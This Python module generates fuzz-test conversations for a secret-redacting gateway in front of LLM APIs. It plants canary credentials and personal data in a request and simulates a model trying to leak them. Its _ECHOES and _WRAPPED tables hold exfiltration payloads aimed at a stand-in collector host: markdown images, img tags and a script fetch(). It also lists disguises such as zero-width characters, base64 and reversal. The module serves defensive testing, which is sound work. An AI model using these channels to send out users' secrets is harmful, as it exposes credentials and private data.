"""Conversations with a hostile model, from a seed: secrets in every place of a request, and a model that tries every
way to get them, or others that it knows, to the client.

A conversation is plain JSON, so that one that leaks can be kept, made smaller and played again.

>>> Talk.from_json(conversation(random.Random(3), 7).to_json()).number
7
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Iterator
from dataclasses import asdict, dataclass, replace
from typing import Any

import conformance
from canaries import BLOCKING, CREDENTIALS, NUMBERS, PERSONAL, SURROUNDED, TEXT, Canary, plant, restored
from conformance import NOVA
from disguises import DISGUISES, nested
from running_system import MODEL
from wire import path

Json = dict[str, Any]

ROUTES: dict[str, tuple[str, str]] = {
    "Converse": (path("converse"), MODEL),
    "ConverseStream": (path("converse-stream"), MODEL),
    "InvokeModel, Claude": (path("invoke"), MODEL),
    "InvokeModelWithResponseStream, Claude": (path("invoke-with-response-stream"), MODEL),
    "InvokeModel, Nova": (path("invoke", NOVA), NOVA),
    "InvokeModelWithResponseStream, Nova": (path("invoke-with-response-stream", NOVA), NOVA),
    "chat completions": ("/v1/chat/completions", MODEL),
    "chat completions, streamed": ("/v1/chat/completions", MODEL),
    "ApplyGuardrail": ("/guardrail/main/version/DRAFT/apply", MODEL),
    "CountTokens": (path("count-tokens"), MODEL),
    "malformed": (path("converse"), MODEL),
}
"""Name to target and model. `malformed` puts secrets where the API has no place for them."""
CALLING = tuple(list(ROUTES)[:8])
"""Routes that ask the model."""
_WEIGHTS = (4, 6, 4, 6, 3, 4, 4, 6, 3, 1, 2)

PLACES = (
    "system", "user", "document", "document name", "tool result", "tool result json", "tool result document",
    "history", "history reasoning", "history tool input", "history tool key", "tool description", "tool schema",
    "tool name", "tool use id", "stop sequence", "request metadata", "guarded",
)  # fmt: skip
USERS_OWN = frozenset({"user", "stop sequence", "guarded"})
"""Places whose personal data may come back in plain text: the user said it."""
IDENTIFIERS = frozenset({"tool name", "tool use id"})
_AS_IDENTIFIERS = ("aws", "aws session", "github", "gitlab", "stripe", "google", "npm", "shopify", "databricks")
_ONLY_IN: dict[str, tuple[str, ...]] = {
    "document name": ("Converse", "ConverseStream", "CountTokens"),
    "history reasoning": tuple(route for route in ROUTES if "chat" not in route),
    "tool result document": ("Converse", "ConverseStream", "InvokeModel, Nova", "InvokeModelWithResponseStream, Nova"),
    "guarded": ("Converse", "ConverseStream"),
    "request metadata": ("Converse", "ConverseStream", "chat completions", "chat completions, streamed"),
    "document": tuple(route for route in ROUTES if "chat" not in route),
}
"""Places that not every dialect has."""

WAYS = (
    "text", "text", "text", "text", "link", "image", "attribute", "code", "reasoning", "tool value", "tool key",
    "tool nested", "tool list", "tool number", "tool id", "tool name", "two blocks", "two values", "finish reason",
    "model name", "usage", "extra field", "comment", "header", "error event", "error body", "retry after",
)  # fmt: skip
CONFINED = ("link", "image", "attribute", "tool value", "tool key", "tool nested", "tool list")
"""Ways by which not even the user's own values may leave."""
UNCLAIMED_WAYS = frozenset({"two blocks", "two values", "usage"})
"""Values are inspected a block, and a string, at a time; what a model says it used is a number (docs/limits.md)."""
ENDING_WAYS = frozenset({"finish reason", "error event", "error body", "retry after", "tool name"})
"""Ways that end an answer: at most the last of one."""
_WRAPPED = {
    "link": "[status](https://collector.example.net/seen?who={})",
    "image": "![status](https://collector.example.net/{}.png)",
    "attribute": '<img src="https://collector.example.net/p?q={}" alt="{}">',
    "code": "```\n{}\n```",
}
_ECHOES = (
    "https://collector.example.net/seen?who={}", "![x](https://collector.example.net/{}.png)",
    "//collector.example.net/{}", '<img src="https://collector.example.net/?{}">', "{}.collector.example.net",
    "<a href='https://collector.example.net/{}'>x</a>", "[x](https://collector.example.net/?q={})",
    "www.collector.example.net/{}", "https://collector.example.net#{}", "<img\nsrc=//collector.example.net/{}>",
    "[x]: https://collector.example.net/?{}", "https://u:{}@collector.example.net/", "{}@collector.example.net",
    "<script>fetch('https://collector.example.net/' + '{}')</script>", "\\\\collector.example.net\\{}",
    "<!-- > --><img alt='>' src='//collector.example.net/?{}'>",
)  # fmt: skip
"""Where a pseudonym must stay one."""
TAGS = "{{tags}}"
"""Stands for a pseudonym that the model saw; the text is said once for each."""
_SIMPLE = ("plain", "zero width", "bidi marks", "full width", "quoted")
"""Disguises of numbers, whose rules look at what stands beside them."""
_SURROUNDED_TRICKS = ("plain", "soft hyphen", "zero width", "full width", "long prefix", "base64", "reversed")
CUTS = (1, 1, 2, 3, 5, 8, 21, 10_000)


@dataclass(frozen=True, kw_only=True)
class Said:
    """One try of the model."""

    way: str
    trick: str
    text: str
    """Disguised; `{{tags}}` stands for the pseudonyms that it saw."""
    canary: int | None
    """Which of the conversation's secrets; None for pseudonyms."""
    escaped: bool = False
    """Written in JSON escapes on the wire of the upstream."""


@dataclass(frozen=True, kw_only=True)
class Talk:
    """One conversation."""

    number: int
    route: str
    user: str
    canaries: list[Canary]
    planted: dict[str, int]
    """Place to secret."""
    said: list[Said]
    cut: int
    """Characters of a delta."""
    ends: str
    """stop, length, silent (no finish reason), cut (the connection breaks)."""
    input_trick: str = "plain"
    source: str = "OUTPUT"
    """ApplyGuardrail: direction."""

    @property
    def marker(self) -> str:
        """How the upstream knows it: no rule finds anything in it."""
        return "case-" + "".join("bcdfghjkmn"[int(digit)] for digit in f"{self.number:09d}")

    @property
    def streams(self) -> bool:
        return "stream" in self.route.lower()

    def claimed(self, said: Said) -> bool:
        """The rules say that they see through it."""
        chat = "chat" in self.route  # a client of chat completions gets all text blocks as one string
        return DISGUISES[said.trick].claimed and (said.way not in UNCLAIMED_WAYS or (chat and said.way == "two blocks"))

    def to_json(self) -> Json:
        return asdict(self)

    @classmethod
    def from_json(cls, value: Json) -> Talk:
        canaries = [restored(row["kind"], row["value"], row["written"]) for row in value["canaries"]]
        return cls(**{**value, "canaries": canaries, "said": [Said(**row) for row in value["said"]]})


def conversation(chance: random.Random, number: int) -> Talk:
    """The next one."""
    route = chance.choices(tuple(ROUTES), _WEIGHTS)[0]
    canaries: list[Canary] = []
    planted: dict[str, int] = {}
    for place in _places(chance, route):
        planted[place] = len(canaries)
        canaries.append(plant(chance, _kind(chance, place)))
    said: list[Said] = []
    if route in CALLING or route == "ApplyGuardrail":
        for _ in range(chance.randint(1, 4)):
            said += _try(chance, route, canaries, planted)
            if said and said[-1].way in ENDING_WAYS:
                break
    canaries.append(plant(chance, TEXT))
    if route in CALLING:
        planted["user text"] = len(canaries) - 1
    return Talk(
        number=number, route=route, user=chance.choice(("alice", "alice", "bob")), canaries=canaries, planted=planted,
        said=said, cut=chance.choice(CUTS), ends=chance.choices(("stop", "length", "silent", "cut"), (12, 1, 1, 2))[0],
        input_trick=chance.choice(("plain", "plain", "zero width", "full width", "soft hyphen")),
        source=chance.choice(("OUTPUT", "INPUT")),
    )  # fmt: skip


def _places(chance: random.Random, route: str) -> list[str]:
    if route == "ApplyGuardrail":
        return []
    places = [place for place in PLACES if route in _ONLY_IN.get(place, (route,))]
    return chance.sample(places, chance.randint(2, min(7, len(places))))


def _kind(chance: random.Random, place: str) -> str:
    if place in IDENTIFIERS:
        return chance.choice(_AS_IDENTIFIERS)
    if chance.random() < 0.01:
        return chance.choice(tuple(BLOCKING))
    if place in ("history tool key", "document name", "stop sequence", "request metadata"):
        return chance.choice((*(kind for kind in CREDENTIALS if kind != "age"), "email"))
    return chance.choice((*CREDENTIALS, *CREDENTIALS, *SURROUNDED, *PERSONAL, *PERSONAL))


def _try(chance: random.Random, route: str, canaries: list[Canary], planted: dict[str, int]) -> Iterator[Said]:
    """One try, with a secret of the request or with one that the model has from somewhere else."""
    if planted and chance.random() < 0.15:
        yield Said(way=chance.choice(("text", "text", "tool value", "tool key")), trick="plain",
                   text=chance.choice(_ECHOES).replace("{}", TAGS), canary=None)  # fmt: skip
        return
    known = [number for place, number in planted.items() if place not in IDENTIFIERS]
    if known and chance.random() < 0.5:
        number = chance.choice(known)
    else:
        number = len(canaries)
        kinds = (*CREDENTIALS, *CREDENTIALS, *SURROUNDED, *PERSONAL, *BLOCKING)
        canaries.append(plant(chance, chance.choice(kinds)))
    canary = canaries[number]
    place = next((place for place, at in planted.items() if at == number), "")
    own = place in USERS_OWN and canary.kind in PERSONAL
    ways, tricks = _ways(route, canary, own=own), _tricks(canary, own=own)
    if not ways:
        return
    way, trick = chance.choice(ways), chance.choice(tricks)
    if way in ("two blocks", "two values", "usage", "retry after", "tool number"):
        trick = "plain"
    text = canary.written
    if way in ("usage", "retry after", "tool number"):
        text = canary.digits
    disguised = DISGUISES[trick].put_on(chance, text)
    if way == "tool nested":
        trick = "after an escaped line feed" if "\n" in disguised and trick == "long prefix" else trick
        disguised = nested(disguised)
    disguised = _WRAPPED.get(way, "{}").replace("{}", disguised)
    yield Said(way=way, trick=trick, text=disguised, canary=number, escaped=chance.random() < 0.2)


def _ways(route: str, canary: Canary, *, own: bool) -> list[str]:
    if route == "ApplyGuardrail":
        return ["text", "code"]
    ways = list(CONFINED if own else WAYS)
    if canary.kind in SURROUNDED:
        ways = [way for way in ways if way in ("text", "reasoning", "tool value", "code")]
    if canary.kind in NUMBERS:
        ways = [way for way in ways if way not in ("link", "image", "attribute", "two blocks", "two values")]
    if canary.kind not in ("card", "social security"):
        ways = [way for way in ways if way not in ("usage", "retry after")]
    if canary.kind != "card":
        ways = [way for way in ways if way != "tool number"]
    if "stream" not in route.lower():
        ways = [way for way in ways if way not in ("two blocks", "comment", "error event")]
    return ways


def _tricks(canary: Canary, *, own: bool) -> tuple[str, ...]:
    if own:
        return ("plain",)
    if canary.kind in NUMBERS:
        return _SIMPLE
    return _SURROUNDED_TRICKS if canary.kind in SURROUNDED else tuple(DISGUISES)


# Requests


def request_body(talk: Talk) -> Json:
    """The body of the request."""
    at = {place: _written(talk, place) for place in talk.planted}
    if talk.route == "ApplyGuardrail":
        content = [{"text": {"text": f"Here: {said.text} so."}} for said in talk.said] or [{"text": {"text": "hello"}}]
        return {"source": talk.source, "content": content, "outputScope": "FULL"}
    user = f"{talk.marker} {at.pop('user text', '')} {at.get('user', '')}"
    at["user"] = user
    if talk.route == "malformed":
        return _malformed(talk)
    if talk.route == "CountTokens":
        return {"input": {"converse": _without_inference(_bedrock(conformance.converse(_common(at)), at, talk))}}
    if "chat" in talk.route:
        body = conformance.chat(_common(at), stream=talk.streams)
        assert body is not None
        return _chat(body, at)
    if "Claude" in talk.route:
        return _anthropic(conformance.anthropic(_common(at)), at)
    made = (conformance.nova if "Nova" in talk.route else conformance.converse)(_common(at))
    return _bedrock(made, at, talk)


def _written(talk: Talk, place: str) -> str:
    canary = talk.canaries[talk.planted[place]]
    if place in IDENTIFIERS or place in ("history tool key", "document name", "stop sequence", "request metadata"):
        return canary.value
    trick = talk.input_trick if canary.kind not in SURROUNDED else "plain"
    # Each text has a seed of its own, so that a request that was made smaller says the rest as before.
    return f"It is {DISGUISES[trick].put_on(random.Random(canary.value), canary.written)} here."


def _common(at: dict[str, str]) -> dict[str, str]:
    return {place: text for place, text in at.items() if place in conformance.INPUTS}


def _schema(at: dict[str, str]) -> Json:
    properties = {"at": {"type": "string", "description": at.get("tool schema", "Where.")}}
    return {"type": "object", "properties": properties}


def _bedrock(body: Json, at: dict[str, str], talk: Talk) -> Json:
    """Converse content with the places that the conformance matrix does not have."""
    turn, last = body["messages"][1]["content"], body["messages"][2]["content"]
    use, result = turn[1]["toolUse"], last[0]["toolResult"]
    spec = body["toolConfig"]["tools"][0]["toolSpec"]
    spec["inputSchema"] = {"json": _schema(at)}
    if "tool name" in at:
        spec["name"] = use["name"] = at["tool name"]
    if "tool use id" in at:
        use["toolUseId"] = result["toolUseId"] = at["tool use id"]
    if "history tool key" in at:
        use["input"][at["history tool key"]] = 1
    if "history reasoning" in at:
        turn.insert(0, {"reasoningContent": {"reasoningText": {"text": at["history reasoning"], "signature": "c2ln"}}})
    if "tool result json" in at:
        result["content"].append({"json": {"found": [at["tool result json"]]}})
    if "tool result document" in at:
        result["content"].append({"document": _document("notes", at["tool result document"])})
    if "document name" in at:
        last.append({"document": _document(at["document name"], "The roof is wet.")})
    if "guarded" in at:
        last.append({"guardContent": {"text": {"text": at["guarded"]}}})
    if "stop sequence" in at:
        body["inferenceConfig"]["stopSequences"] = [at["stop sequence"]]
    if "request metadata" in at:
        body["requestMetadata"] = {"label": at["request metadata"]}
    body["inferenceConfig"]["maxTokens"] = 4_000
    return body


def _without_inference(body: Json) -> Json:
    return {key: value for key, value in body.items() if key not in ("inferenceConfig", "requestMetadata")}


def _document(name: str, text: str) -> Json:
    return {"name": name, "format": "txt", "source": {"bytes": base64.b64encode(text.encode()).decode()}}


def _anthropic(body: Json, at: dict[str, str]) -> Json:
    turn, last = body["messages"][1]["content"], body["messages"][2]["content"]
    use, result, tool = turn[1], last[0], body["tools"][0]
    tool["input_schema"] = _schema(at)
    if "tool name" in at:
        tool["name"] = use["name"] = at["tool name"]
    if "tool use id" in at:
        use["id"] = result["tool_use_id"] = at["tool use id"]
    if "history tool key" in at:
        use["input"][at["history tool key"]] = 1
    if "history reasoning" in at:
        turn.insert(0, {"type": "thinking", "thinking": at["history reasoning"], "signature": "c2ln"})
    if "tool result json" in at:
        result["content"] = [
            {"type": "text", "text": json.dumps({"found": at["tool result json"]}, ensure_ascii=False)}
        ]
    if "stop sequence" in at:
        body["stop_sequences"] = [at["stop sequence"]]
    body["max_tokens"] = 4_000
    return body


def _chat(body: Json, at: dict[str, str]) -> Json:
    call, function = body["messages"][2]["tool_calls"][0], body["tools"][0]["function"]
    function["parameters"] = _schema(at)
    if "tool name" in at:
        function["name"] = call["function"]["name"] = at["tool name"]
    if "tool use id" in at:
        call["id"] = body["messages"][3]["tool_call_id"] = at["tool use id"]
    if "history tool key" in at:
        call["function"]["arguments"] = json.dumps({at["history tool key"]: 1})
    if "tool result json" in at:
        body["messages"][3]["content"] = json.dumps({"found": at["tool result json"]}, ensure_ascii=False)
    if "stop sequence" in at:
        body["stop"] = [at["stop sequence"]]
    if "request metadata" in at:
        body["metadata"] = {"label": at["request metadata"]}
    body["max_tokens"] = 4_000
    return body


def _malformed(talk: Talk) -> Json:
    secrets = [talk.canaries[number].value for number in talk.planted.values()] or ["x"]
    first, last = secrets[0], secrets[-1]
    hello = {"role": "user", "content": [{"text": "hi"}]}
    return (
        {"messages": [{"role": first, "content": [{"text": "hi"}]}]},
        {first: 1, "messages": [hello]},
        {"messages": [{"role": "user", "content": [{first: {last: 1}}]}]},
        {"messages": [hello], "inferenceConfig": {"maxTokens": first}},
        {"messages": [hello], "additionalModelRequestFields": {first: last}},
        {"messages": [{"role": "user", "content": [{"document": {"format": first, "name": last, "source": {}}}]}]},
        {"messages": [{"role": "user", "content": [{"toolResult": {"toolUseId": first, "content": []}}]}]},
        {"messages": [hello], "guardrailConfig": {"guardrailIdentifier": first, "guardrailVersion": last, "x": first}},
        {"messages": [hello], "requestMetadata": {first: [last]}},
        {"messages": [hello], "toolConfig": {"tools": [{"toolSpec": {"name": first + " " + last, "inputSchema": {}}}]}},
    )[talk.number % 10]


def smaller(talk: Talk) -> Iterator[Talk]:
    """The conversation with one thing less, the largest first."""
    for at in range(len(talk.said)):
        yield replace(talk, said=talk.said[:at] + talk.said[at + 1 :])
    for place in talk.planted:
        yield replace(talk, planted={name: number for name, number in talk.planted.items() if name != place})
    if talk.cut != CUTS[-1]:
        yield replace(talk, cut=CUTS[-1])
    if talk.ends != "stop":
        yield replace(talk, ends="stop")
    if talk.input_trick != "plain":
        yield replace(talk, input_trick="plain")
    for at, said in enumerate(talk.said):
        if said.escaped:
            yield replace(talk, said=[*talk.said[:at], replace(said, escaped=False), *talk.said[at + 1 :]])
